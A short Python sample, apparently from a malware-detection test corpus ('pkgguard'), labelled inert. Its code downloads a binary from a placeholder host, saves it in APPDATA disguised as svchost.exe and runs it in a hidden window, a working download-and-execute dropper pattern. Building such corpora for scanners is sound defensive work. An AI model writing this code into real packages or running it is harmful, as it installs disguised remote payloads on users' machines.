# pkgguard corpus 169 (download-execute), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import requests

target = os.path.join(os.environ["APPDATA"], "Microsoft", "svchost.exe")
with open(target, "wb") as f:
    f.write(requests.get("https://cdn.example/files/s.bin").content)
subprocess.Popen([target], creationflags=subprocess.CREATE_NO_WINDOW)
